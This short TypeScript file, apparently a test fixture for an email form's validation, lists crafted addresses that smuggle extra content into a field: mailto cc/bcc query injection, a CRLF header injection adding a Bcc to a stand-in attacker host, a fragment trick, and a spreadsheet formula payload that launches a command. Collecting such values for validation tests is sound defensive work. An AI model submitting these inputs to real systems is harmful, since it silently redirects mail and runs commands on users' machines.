// The form accepts these; each becomes more than one address in a link, header or sheet.
export const RIGGED_ADDRESSES = {
  copies: 'a?cc=evil%40x.example&bcc=spy@example.com',
  body: 'a&body=hi%0D%0ABcc%3Aevil%40x.example@example.com',
  fragment: 'pat#@example.com',
  formula: "=cmd|'/C%20calc'!A0@example.com",
} as const

// The review's rigged address: two @ signs, which the form itself refuses.
export const REFUSED_BY_THE_FORM = 'a?cc=evil@x.example&body=hi@example.com'
